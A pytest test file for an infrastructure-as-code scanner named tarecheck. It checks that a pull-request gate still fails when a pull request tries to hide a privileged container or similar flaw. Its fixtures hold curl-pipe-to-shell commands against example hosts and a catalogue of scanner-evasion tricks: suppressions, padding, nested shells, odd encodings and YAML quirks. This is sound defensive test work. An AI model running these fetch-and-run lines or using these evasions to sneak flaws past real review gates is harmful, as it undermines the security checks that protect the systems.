"""A pull request that tries to pass its own gate with a flaw in it: every trick that we know, in a real git repository.

Each attack brings in a privileged container, or what is as bad in the other formats. The gate must be red.
"""

from __future__ import annotations

import json
import shlex
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.test_cli import Run, run
from tests.test_git import commit, git

__all__ = ["run"]
pytestmark = pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")

STRANGERS = ("--policy-from", "main", "--new-since", "main")
POD = """apiVersion: v1
kind: Pod
metadata:
  name: evil
spec:
  containers:
    - name: main
      image: registry.example.org/app:1.0
      securityContext:
        privileged: true
"""
DOCKERFILE = "FROM registry.example.org/base\nRUN curl http://example.org/install.sh | bash\n"
TERRAFORM = 'resource "aws_db_instance" "x" {\n  engine = "postgres"\n  publicly_accessible = true\n}\n'
COMPOSE = "services:\n  app:\n    image: registry.example.org/app:1.0\n    privileged: true\n"
PAD = "# nothing to see here\n"
LINE = 'hide: ["bad.yaml"]'

Write = Callable[[Path], None]


def put(root: Path, name: str, text: str | bytes) -> None:
    path = root / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(text if isinstance(text, bytes) else text.encode())


@pytest.fixture(scope="module")
def template(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A repository with a configuration, a known flaw, a suppressed one and a baseline."""
    root = tmp_path_factory.mktemp("template")
    git(root, "init", "-q")
    put(root, "tarecheck.yaml", "fail-on: medium\nsuppressions: {require-reason: true}\n")
    put(root, ".gitignore", "*.log\n")
    put(root, "known.yaml", POD.replace("evil", "known"))
    mark = "privileged: true # tarecheck: ignore[privileged-container] needs the driver"
    put(root, "agreed.yaml", POD.replace("evil", "agreed").replace("privileged: true", mark))
    commit(root, "first")
    git(root, "checkout", "-q", "-b", "work")
    return root


@pytest.fixture
def tree(template: Path, tmp_path: Path) -> Path:
    """The checkout of a pull request, so far without a change."""
    shutil.copytree(template, tmp_path, symlinks=True, dirs_exist_ok=True)
    return tmp_path


def gate(run: Run, root: Path) -> int:
    git(root, "add", "-A", "-f")
    git(root, "commit", "-q", "--allow-empty", "-m", "pull request")
    return run("scan", ".", "-q", *STRANGERS).code


def test_a_pull_request_without_a_flaw_passes(run: Run, tree: Path) -> None:
    put(tree, "known.yaml", "# moved\n" + POD.replace("evil", "known"))
    put(tree, "README.md", "words\n")
    assert gate(run, tree) == 0


def test_a_flaw_is_told_and_nothing_else(run: Run, tree: Path) -> None:
    put(tree, "known.yaml", POD.replace("evil", "known").replace("spec:\n", "spec:\n  hostPID: true\n"))
    git(tree, "mv", "known.yaml", "renamed.yaml")
    commit(tree)
    result = run("scan", ".", "-f", "json", *STRANGERS)
    told = [(f["rule"], f["path"]) for f in json.loads(result.out)["findings"]]
    assert (result.code, told) == (1, [("host-pid", "renamed.yaml")])


# -- what a pull request says of its own gate

POLICY: dict[str, dict[str, str]] = {
    "ignore-all": {"tarecheck.yaml": "ignore: [all]\nfail-on: none\n"},
    "exclude": {"tarecheck.yaml": 'exclude: ["bad.yaml"]\n'},
    "overrides": {"tarecheck.yaml": 'overrides: [{paths: ["bad*"], ignore: [all]}]\n'},
    "preset": {"tarecheck.yaml": "extends: audit\n"},
    "severity": {"tarecheck.yaml": "rules: {privileged-container: info}\n"},
    "max-file-size": {"tarecheck.yaml": "max-file-size: 1\nignore: [file-too-large]\n"},
    "no-configuration": {"tarecheck.yaml": "fail-on: none\n", "pyproject.toml": "[project]\nname = 'x'\n"},
    "second-configuration": {"pyproject.toml": "[tool.tarecheck]\nignore = ['all']\n"},
    "configuration-suppression": {
        "tarecheck.yaml": "suppressions: {ignore: [{rules: [all], reason: trust me}]}\n"
    },
    "gitignore": {".gitignore": "*.yaml\n"},
    "inline": {
        "bad.yaml": POD.replace("true\n", "true # tarecheck: ignore[privileged-container] trust me\n")
    },
    "whole-file": {"bad.yaml": "# tarecheck: ignore-file[privileged-container] trust me\n" + POD},
    "annotation": {
        "bad.yaml": POD.replace(
            "name: evil\n", "name: evil\n  annotations: {kube-linter.io/ignore-all: trust me}\n"
        )
    },
}


@pytest.mark.parametrize("name", POLICY)
def test_what_it_says_of_its_gate_does_not_count(run: Run, tree: Path, name: str) -> None:
    put(tree, "bad.yaml", POD)
    for path, text in POLICY[name].items():
        put(tree, path, text)
    assert gate(run, tree) == 1


def test_nor_does_a_nested_configuration(run: Run, tree: Path) -> None:
    put(tree, "sub/bad.yaml", POD)
    put(tree, "sub/tarecheck.yaml", "root: true\nignore: [all]\n")
    assert gate(run, tree) == 1


def test_nor_a_baseline(run: Run, tree: Path) -> None:
    put(tree, "bad.yaml", POD)
    assert run("baseline", "create").code == 0
    put(tree, "tarecheck.yaml", "baseline: tarecheck-baseline.json\n")
    assert gate(run, tree) == 1


# -- places where nobody looks


@pytest.mark.parametrize("folder", ["node_modules", ".venv", ".terraform", "__pycache__", "gen", "pod.yaml"])
def test_a_folder_hides_nothing_that_git_has(run: Run, tree: Path, folder: str) -> None:
    put(tree, f"{folder}/bad.yaml", POD)
    put(tree, "gen/.gitignore", "*\n")
    assert gate(run, tree) == 1


@pytest.mark.parametrize("folder", ["tests", "vendor", "test/e2e", "third_party/x"])
def test_nor_is_it_set_aside_as_nobodys(run: Run, tree: Path, folder: str) -> None:
    put(tree, f"{folder}/bad.yaml", POD.replace("privileged: true", "runAsUser: 0"))
    put(tree, "tarecheck.yaml", "everywhere: false\n")
    assert gate(run, tree) == 1


def test_whoever_answers_for_the_repository_sets_tests_aside(run: Run, tree: Path) -> None:
    git(tree, "checkout", "-q", "main")
    put(tree, "tarecheck.yaml", "everywhere: false\n")
    put(tree, "tests/soon.yaml", POD.replace("privileged: true", "runAsUser: 0"))
    commit(tree)
    git(tree, "checkout", "-q", "-B", "work")
    put(tree, "tests/bad.yaml", POD.replace("privileged: true", "runAsUser: 0"))
    assert gate(run, tree) == 0
    git(tree, "mv", "tests/soon.yaml", "real.yaml")
    assert gate(run, tree) == 1  # what counted for nothing does now


def test_an_excluded_folder_stays_out(run: Run, tree: Path) -> None:
    git(tree, "checkout", "-q", "main")
    put(tree, "tarecheck.yaml", "exclude: [vendor]\n")
    commit(tree)
    git(tree, "checkout", "-q", "-B", "work")
    put(tree, "vendor/node_modules/bad.yaml", POD)
    put(tree, ".gitignore", "vendor/node_modules\n")
    assert gate(run, tree) == 0  # whoever answers for the repository said so


def test_a_link_is_read_by_its_own_name(run: Run, tree: Path) -> None:
    put(tree, "data.txt", POD)
    (tree / "bad.yaml").symlink_to("data.txt")
    assert gate(run, tree) == 1


def test_a_link_that_was_there_is_known(run: Run, tree: Path) -> None:
    git(tree, "checkout", "-q", "main")
    put(tree, "data.txt", POD)
    (tree / "bad.yaml").symlink_to("data.txt")
    commit(tree)
    git(tree, "checkout", "-q", "-B", "work")
    assert gate(run, tree) == 0


# -- ways to write a file that we would not take for one


def wrapped(script: str, times: int) -> str:
    """A script in as many shells, one in another."""
    for _ in range(times):
        script = "sh -c " + shlex.quote(script)
    return script


def in_shells(script: str) -> str:
    """The exec form of a script in more shells than are looked through."""
    return json.dumps(["sh", "-c", wrapped(script, 8)])


RUNNING = """apiVersion: v1
kind: Pod
metadata:
  name: evil
spec:
  containers:
    - name: main
      image: registry.example.org/app:1.0
      command: {}
"""
GROWING = "      env:\n" + "".join(
    f"        - name: V{index}\n          value: $(V{index - 1})$(V{index - 1})$(V{index - 1})x\n"
    for index in range(21)
)
_SCRIPTS = ("a", "b", "c", "d", "e", "f")  # each starts the next one
MOUNTED = """      volumeMounts:
        - name: scripts
          mountPath: /s
  volumes:
    - name: scripts
      configMap:
        name: scripts
---
apiVersion: v1
kind: ConfigMap
metadata:
  name: scripts
data:
""" + "".join(
    f"  {one}.sh: /s/{following}.sh\n"
    for one, following in zip(_SCRIPTS, [*_SCRIPTS[1:], "end"], strict=True)
)
SERVING = """services:
  app:
    image: registry.example.org/app:1.0
    entrypoint: {}
    deploy:
      resources:
        reservations:
          devices:
            - driver: nvidia
              count: 8
              capabilities: [gpu]
"""

FORMS: dict[str, tuple[str, str | bytes]] = {
    "padded-manifest": ("bad.yaml", PAD * 60_000 + POD),
    "oversized-manifest": ("bad.yaml", PAD * 260_000 + POD),
    "oversized-behind": ("bad.yaml", POD + PAD * 260_000),
    "padded-dockerfile": ("Dockerfile", PAD * 5_000 + DOCKERFILE),
    "oversized-dockerfile": ("Dockerfile", PAD * 30_000 + DOCKERFILE),
    "huge-dockerfile": ("Dockerfile", PAD * 260_000 + DOCKERFILE),
    "oversized-terraform": ("main.tf", TERRAFORM + PAD * 260_000),
    "padded-compose": ("compose.yaml", PAD * 60_000 + COMPOSE),
    "too-many-objects": ("bad.yaml", "apiVersion: v1\nkind: Event\n---\n" * 10_001 + POD),
    "many-commands": ("Dockerfile", "FROM scratch\nRUN " + ":;" * 60_000 + " curl a.example.org | sh\n"),
    "scripts-in-scripts": ("Dockerfile", f"FROM scratch\nRUN {wrapped('curl a.example.org | sh', 8)}\n"),
    "scripts-in-exec-form": ("Dockerfile", f"FROM scratch\nRUN {in_shells('curl a.example.org | sh')}\n"),
    "scripts-in-cmd": ("Dockerfile", f"FROM a:1\nUSER a\nCMD {wrapped('jupyter lab --ip=0.0.0.0', 8)}\n"),
    "scripts-in-entrypoint": ("Dockerfile", f"FROM a:1\nUSER a\nENTRYPOINT {in_shells('jupyter lab')}\n"),
    "scripts-in-a-pod": ("bad.yaml", RUNNING.format(in_shells("curl http://a.example.org/x | sh"))),
    "mounted-scripts": ("bad.yaml", RUNNING.format('["/s/a.sh"]') + MOUNTED),
    "growing-variables": (
        "bad.yaml",
        RUNNING.format('["sh", "-c", "$(V20); curl http://a.example.org/x | sh"]') + GROWING,
    ),
    "scripts-in-compose": ("compose.yaml", SERVING.format(in_shells("torchrun --nproc-per-node=8 a.py"))),
    "many-instructions": ("Dockerfile", "FROM scratch\n" + "LABEL a=b\n" * 5_001 + "USER root\n"),
    "byte-order-mark": ("bad.yaml", b"\xef\xbb\xbf" + POD.encode()),
    "utf-16": ("bad.yaml", POD.encode("utf-16")),
    "utf-16-without-mark": ("bad.yaml", POD.encode("utf-16-le")),
    "utf-32": ("bad.yaml", POD.encode("utf-32")),
    "latin-1": ("bad.yaml", b"# \xe9\n" + POD.encode()),
    "carriage-returns": ("bad.yaml", POD.replace("\n", "\r")),
    "next-lines": ("bad.yaml", POD.replace("\n", "\x85")),
    "line-separators": ("bad.yaml", "x: y\u2028" + POD.replace("\n", "\u2028")),
    "escaped-keys": (
        "bad.yaml",
        POD.replace("apiVersion:", '"api\\u0056ersion":').replace("kind:", '"\\x6bind":'),
    ),
    "broken-key": ("bad.yaml", POD.replace("apiVersion:", '"api\\\n Version":')),
    "explicit-keys": (
        "bad.yaml",
        POD.replace("apiVersion: v1", "? apiVersion\n: v1").replace("kind: Pod", "? kind # of it\n: Pod"),
    ),
    "keys-by-alias": (
        "bad.yaml",
        POD.replace("  name: evil\n", "  name: evil\n  annotations: {a: &a apiVersion, k: &k kind}\n")
        .replace("apiVersion: v1\nkind: Pod\n", "")
        .replace("spec:\n", "*a : v1\n*k : Pod\nspec:\n"),
    ),
    "yes": ("bad.yaml", POD.replace("privileged: true", "privileged: yes")),
    "tagged": ("bad.yaml", POD.replace("privileged: true", 'privileged: !!bool "true"')),
    "merge-key": ("bad.yaml", POD.replace("privileged: true", "<<: {privileged: true}")),
    "given-twice": ("bad.yaml", POD + "        privileged: false\n"),
    "deep-nesting": (
        "bad.yaml",
        POD.replace("spec:", 'x: "{{ a }}"\ny: ' + "[" * 300 + "]" * 300 + "\nspec:"),
    ),
    "lists-in-lists": (
        "bad.yaml",
        "".join(
            f"{' ' * 2 * i}{'- ' if i else ''}apiVersion: v1\n{' ' * (2 * i + 2 * bool(i))}kind: List\n"
            f"{' ' * (2 * i + 2 * bool(i))}items:\n"
            for i in range(7)
        )
        + "".join(f"{' ' * 14}{'  ' if n else '- '}{line}\n" for n, line in enumerate(POD.splitlines())),
    ),
    "template-in-a-comment": ("bad.yaml", "# {{ if }} {{ range\n" + POD),
    "template-in-a-string": ("bad.yaml", POD.replace("name: evil", 'name: evil\n  labels: {x: "{{ a }}"}')),
    "many-templates": ("bad.yaml", "# {{ a }}\n" * 600 + POD),
    "document-before": ("bad.yaml", "a: b: c\n---\n" + POD),
    "upper-case": ("BAD.YAML", POD),
    "json": ("bad.json", json.dumps({"apiVersion": "v1", "kind": "Pod", "spec": {"hostPID": True}})),
    "escaped-json": (
        "bad.json",
        '{"\\u0061piVersion": "v1", "kind": "Pod", "metadata": {"name": "a"}, "spec": {"hostPID": true}}',
    ),
    "dockerfile-txt": ("Dockerfile.txt", DOCKERFILE),
    "containerfile": ("images/app.Containerfile", DOCKERFILE),
    "stack": ("deploy/production.yml", COMPOSE),
    "compose-as-manifest": ("compose.yaml", "x-a:\n  apiVersion: v1\n" + COMPOSE),
    "large-file-storage": (
        "Dockerfile",
        "version https://git-lfs.github.com/spec/v1\noid sha256:00\nsize 1\n",
    ),
    "line-break-in-the-name": ("a\nb.yaml", POD),
}


TELLING = {  # where it is not `privileged-container` that must be told
    **dict.fromkeys(("oversized-manifest", "oversized-behind", "huge-dockerfile"), "file-too-large"),
    **dict.fromkeys(("oversized-terraform", "too-many-objects", "lists-in-lists"), "file-too-large"),
    "many-instructions": "root-user",
    **dict.fromkeys(("large-file-storage", "given-twice", "deep-nesting", "broken-key"), "unparsable-file"),
    **dict.fromkeys(("padded-dockerfile", "oversized-dockerfile"), "pipe-to-shell"),
    **dict.fromkeys(("dockerfile-txt", "containerfile"), "pipe-to-shell"),
    **dict.fromkeys(("many-commands", "scripts-in-scripts", "scripts-in-exec-form"), "file-too-large"),
    **dict.fromkeys(("scripts-in-cmd", "scripts-in-entrypoint"), "file-too-large"),
    **dict.fromkeys(("scripts-in-a-pod", "mounted-scripts", "growing-variables"), "file-too-large"),
    "scripts-in-compose": "file-too-large",
    **dict.fromkeys(("padded-compose", "stack", "compose-as-manifest"), "compose-privileged"),
    **dict.fromkeys(("json", "escaped-json"), "host-pid"),
}


@pytest.mark.parametrize("name", FORMS)
def test_a_form_hides_nothing(run: Run, tree: Path, name: str) -> None:
    put(tree, *FORMS[name])
    git(tree, "add", "-A")
    result = run("scan", ".", "-f", "json", *STRANGERS)
    assert TELLING.get(name, "privileged-container") in {
        f["rule"] for f in json.loads(result.out)["findings"]
    }
    assert result.code == 1


def test_absence_is_seen_behind_a_commented_template(run: Run, tree: Path) -> None:
    """`# {{ … }}` is a comment in a manifest that is applied as it stands, and opens no mapping."""
    quiet = POD.replace("      securityContext:\n        privileged: true\n", "")
    put(tree, "bad.yaml", quiet)
    put(tree, "same.yaml", quiet.replace("    - name", "      # {{ toYaml .x | nindent 6 }}\n    - name"))
    commit(tree)
    findings = json.loads(run("scan", "bad.yaml", "same.yaml", "-f", "json").out)["findings"]
    by_path = {p: sorted(f["rule"] for f in findings if f["path"] == p) for p in ("bad.yaml", "same.yaml")}
    assert by_path["bad.yaml"] == by_path["same.yaml"]
    assert by_path["bad.yaml"]


def test_an_oversized_file_of_the_base_is_known(run: Run, tree: Path) -> None:
    git(tree, "checkout", "-q", "main")
    put(tree, "large.yaml", POD + PAD * 260_000)
    commit(tree)
    git(tree, "checkout", "-q", "-B", "work")
    assert gate(run, tree) == 0
    put(tree, "tarecheck.yaml", "overrides: [{paths: [large.yaml], max-file-size: 20}]\n")
    assert "privileged-container" in run("scan", ".", "-f", "gnu").out


def test_what_the_system_does_not_let_us_read_is_a_finding(run: Run, tree: Path) -> None:
    put(tree, "bad.yaml", POD)
    (tree / "bad.yaml").chmod(0)
    if _readable(tree / "bad.yaml"):
        pytest.skip("the superuser reads everything")
    result = run("scan", ".", "-f", "gnu")
    assert result.code == 1
    assert "Permission denied" in result.out


def _readable(path: Path) -> bool:
    try:
        path.read_bytes()
    except OSError:
        return False
    return True
